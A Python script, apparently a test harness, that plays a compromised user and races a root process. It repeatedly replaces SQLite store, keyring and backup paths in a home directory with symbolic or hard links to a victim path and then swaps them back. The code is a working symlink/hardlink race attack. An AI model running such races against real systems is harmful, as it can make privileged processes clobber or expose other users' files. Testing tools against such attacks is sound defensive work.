"""What a compromised server could do: replaces files and folders that root's commands use by links to others' files.

Run it as root: `python link_attacker.py SEED UID GID HOME VICTIM`. As the user UID, the owner of HOME, it moves one thing after another out of the way,
puts a symbolic or hard link to VICTIM or to a file in it in its place, and moves it back a moment later.
"""

import os
import random
import sys
import time
from contextlib import suppress
from pathlib import Path

SIDES = ("", "-wal", "-shm", "-journal")
STORE_NAMES = [
    f"store.sqlite{end}{side}" for end in ("", ".new", ".restoring") for side in SIDES
] + ["store.sqlite.lock", "store.sqlite.open"]  # fmt: skip
KEYRING_NAMES = ["keyring", "keyring.new"]
LONGEST_SECONDS = 0.004


def places(home: Path, chance: random.Random) -> list[Path]:
    """Return what a command may be about to use: names that are always the same, and those that are there now."""
    fixed = [home / name for name in ("data", "backups", "keys")]
    fixed += [home / "data" / name for name in STORE_NAMES] + [home / "keys" / name for name in KEYRING_NAMES]
    found: list[Path] = []
    with suppress(OSError):
        found += list((home / "data" / "store.sqlite.open").iterdir())
    with suppress(OSError):
        for backup in (home / "backups").iterdir():
            found += [backup, *backup.iterdir()]
    return [chance.choice(fixed), *([chance.choice(found)] if found else [])]


def replace_for_a_moment(place: Path, victim: Path, chance: random.Random) -> None:
    away = place.with_name(f"{place.name}.away")
    target = victim if chance.random() < 0.4 else chance.choice(sorted(victim.iterdir()))
    with suppress(OSError):
        os.rename(place, away)
    with suppress(OSError):
        if target.is_file() and chance.random() < 0.3:
            os.link(target, place)  # refused if fs.protected_hardlinks is set
        else:
            os.symlink(target, place)
    time.sleep(chance.uniform(0, LONGEST_SECONDS))
    with suppress(OSError):
        if place.is_symlink() or place.samefile(target):
            os.unlink(place)
    with suppress(OSError):
        os.rename(away, place)


def main() -> None:
    seed, uid, gid = map(int, sys.argv[1:4])
    home, victim = map(Path, sys.argv[4:])
    chance = random.Random(seed)
    os.setgroups([])
    os.setresgid(gid, gid, gid)
    os.setresuid(uid, uid, uid)
    print("attacking", flush=True)
    while os.getppid() != 1:
        for place in places(home, chance):
            with suppress(OSError):
                replace_for_a_moment(place, victim, chance)


main()
